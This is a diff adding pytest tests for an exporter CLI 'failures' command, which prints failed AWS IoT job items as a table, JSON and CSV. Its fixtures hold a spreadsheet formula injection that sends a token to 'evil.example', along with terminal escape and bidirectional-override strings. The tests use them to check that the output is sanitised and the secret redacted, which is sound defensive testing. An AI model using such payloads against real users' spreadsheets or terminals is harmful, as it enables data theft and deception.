@@ -1,0 +1,176 @@
+"""The command ``failures`` prints the failed items of an operation for people, programs and spreadsheets."""
+
+import csv
+import io
+import json
+import re
+import subprocess
+import sys
+from collections.abc import Iterator
+from dataclasses import dataclass
+
+import pytest
+
+from exporter.cli.failures_output import FORMULA_STARTS, csv_text, json_text, table_text
+from exporter.collector.failures import Failures
+from exporter.core.errors import ApiError, Reason
+from exporter.core.model import CellKey, ItemCounts, Operation, Scope
+from exporter.kinds.kind import FailedItem
+from tests.support.clocks import ManualClock
+from tests.support.exporter_server import aws_environment, serve_simulated_aws
+from tests.support.processes import usage_errors
+from tests.support.repository import ROOT
+
+SCENARIO = """
+accounts: ["111122223333"]
+operations:
+  - kind: iot_job
+    id: firmware
+    region: eu-west-1
+    items: 8
+    failures:
+      - {reason: "no space on /dev/sda{number}", items: 3}
+      - {reason: '=HYPERLINK("http://evil.example?token=s3cret") é'}
+    timeline: [{at: 0s, status: COMPLETED, done: 1.0, failed: 0.5}]
+"""
+KEY = CellKey("factory", "eu-west-1", "iot_job")
+HOSTILE = ("\x1b[2J", "a\nb", "\u202eevil", "half \ud83d", "\ufeff=1+1", *(f"{start}1" for start in FORMULA_STARTS))
+
+
+@dataclass(frozen=True)
+class Done:
+    status: int
+    stdout: str
+    errors: list[str]
+
+
+def run(endpoint: str, *arguments: str) -> Done:
+    command = [sys.executable, "-W", "error", "-m", "exporter", "failures", *arguments]
+    with aws_environment(endpoint):
+        done = subprocess.run(command, capture_output=True, text=True, check=False, timeout=60, cwd=ROOT)
+    return Done(done.returncode, done.stdout, done.stderr.splitlines())
+
+
+@pytest.fixture(scope="module")
+def endpoint() -> Iterator[str]:
+    with serve_simulated_aws(SCENARIO, ManualClock()) as (url, _):
+        yield url
+
+
+def test_the_table_shows_the_groups_and_then_the_items(endpoint: str) -> None:
+    done = run(endpoint, "--kind=iot_job", "--id=firmware")
+    assert (done.status, done.errors) == (0, [])
+    lines = done.stdout.splitlines()
+    assert lines[0] == (
+        "iot_job firmware in default eu-west-1 is COMPLETED. AWS counts 4 failed items. 4 failures listed."
+    )
+    assert lines[2].split() == ["COUNT", "REASON", "EXAMPLES"]
+    examples = "firmware-00001, firmware-00002, firmware-00003"
+    assert re.sub(" {2,}", "|", lines[3]) == f"3|reason: no space on <path>|{examples}"
+    assert lines[6].split() == ["ITEM", "STATE", "ATTEMPT", "AT", "REASON"]
+    assert len(lines) == 11
+    assert "s3cret" not in done.stdout
+
+
+def test_json_is_one_object(endpoint: str) -> None:
+    done = run(endpoint, "--kind=iot_job", "--id=firmware", "--output=json", "--limit=3")
+    content = json.loads(done.stdout)
+    assert (done.status, done.errors, done.stdout.isascii()) == (0, [], True)
+    assert list(content) == ["operation", "groups", "items", "complete", "omitted"]
+    assert content["operation"] == {
+        "kind": "iot_job",
+        "id": "firmware",
+        "account": "default",
+        "account_id": "111122223333",
+        "region": "eu-west-1",
+        "status": "COMPLETED",
+        "failed": 4,
+        "possibly_failed": 0,
+    }
+    assert [set(item) for item in content["items"]] == [{"item", "state", "reason", "at", "attempt"}] * 3
+    assert [set(group) for group in content["groups"]] == [{"reason", "count", "examples"}] * 2
+    assert (content["complete"], content["omitted"]) == (False, 1)
+
+
+def test_csv_has_a_row_for_each_item_of_the_requested_state(endpoint: str) -> None:
+    done = run(endpoint, "--kind=iot_job", "--id=firmware", "--output=csv", "--state=TIMED_OUT")
+    (row,) = csv.DictReader(io.StringIO(done.stdout))
+    assert (row["item"], row["state"], row["attempt"]) == ("firmware-00004", "TIMED_OUT", "1")
+    assert row["reason"].startswith('reason: =HYPERLINK("http://evil.example?[redacted]')
+
+
+def test_an_unknown_operation_ends_with_1(endpoint: str) -> None:
+    done = run(endpoint, "--kind=iot_job", "--id=unknown")
+    assert (done.status, done.stdout) == (1, "")
+    cause = "AWS returned ResourceNotFoundException (HTTP 404) for DescribeJob"
+    assert done.errors == [f"default eu-west-1 iot_job unknown: DescribeJob: not_found: {cause}"]
+
+
+@pytest.mark.parametrize(
+    ("api", "shown"), [("DescribeJob", False), ("ListJobExecutionsForJob", True), ("DescribeJobExecution", True)]
+)
+def test_a_refused_call_ends_with_3_and_names_the_permission(api: str, shown: bool) -> None:
+    fault = f"faults: [{{api: {api}, error: AccessDeniedException, status: 403}}]\n"
+    with serve_simulated_aws(SCENARIO + fault, ManualClock()) as (url, _):
+        done = run(url, "--kind=iot_job", "--id=firmware")
+    assert (done.status, bool(done.stdout)) == (3, shown)
+    cause = f"access_denied: AWS returned AccessDeniedException (HTTP 403) for {api}"
+    cure = f"needs the permission iot:{api}, see show iam-policy --failures"
+    assert done.errors == [f"default eu-west-1 iot_job firmware: {api}: {cause}; {cure}"]
+
+
+@pytest.mark.parametrize(
+    ("flags", "problems"),
+    [
+        ((), ["--kind: required"]),
+        (("--kind=iot_job",), ["--id: required"]),
+        (
+            ("--kind=thing", "--id=a", "--limit=0", "--output=xml"),
+            [
+                "--kind: expected one of greengrass_bulk_deployment, iot_job, greengrass_deployment",
+                "--limit: expected a whole number from 1 to 10000",
+                "--output: expected one of table, json, csv",
+            ],
+        ),
+        (("--kind=iot_job", "--id=a/b"), ["--id: expected an id that matches [a-zA-Z0-9_-]+"]),
+        (
+            ("--kind=iot_job", "--id=a", "--state=Bogus"),
+            ["--state: expected one of FAILED, TIMED_OUT, REJECTED, REMOVED, CANCELED"],
+        ),
+    ],
+)
+def test_invalid_flags_end_with_2(flags: tuple[str, ...], problems: list[str]) -> None:
+    assert usage_errors("failures", *flags) == problems
+
+
+ONE_FAILED = ItemCounts(succeeded=0, failed=1)
+
+
+def with_items(*items: FailedItem, counts: ItemCounts = ONE_FAILED) -> Failures:
+    scope = Scope("factory", "111122223333", "eu-west-1")
+    return Failures(Operation(id="firmware", status="COMPLETED"), scope, counts, items, 0)
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_no_text_controls_a_terminal_or_becomes_a_formula(text: str) -> None:
+    failures = with_items(FailedItem(text, text, text))
+    for line in table_text(KEY, failures).splitlines():
+        assert line.isprintable()
+    assert json.loads(json_text(KEY, failures))["items"][0]["reason"] == text
+    assert json_text(KEY, failures).isascii()
+    _, row = csv.reader(io.StringIO(csv_text(KEY, failures)))
+    for cell in row[:3]:
+        assert cell.isprintable()
+        assert not cell.lstrip().startswith(FORMULA_STARTS)
+
+
+def test_with_retries_both_counts_are_shown() -> None:
+    items = [FailedItem("gate", "FAILED", attempt=number) for number in (1, 2)]
+    text = table_text(KEY, with_items(*items, counts=ItemCounts(0, 1, possibly_failed=3)))
+    assert "AWS counts 1 to 4 failed items. 2 failures listed of 1 item." in text
+
+
+def test_a_result_with_a_problem_is_not_complete() -> None:
+    problem = ApiError(Reason.THROTTLED)
+    failures = Failures(Operation(id="a", status="b"), Scope("c", "d", "e"), ItemCounts(0, 0), (), 0, (problem,))
+    assert json.loads(json_text(KEY, failures))["complete"] is False
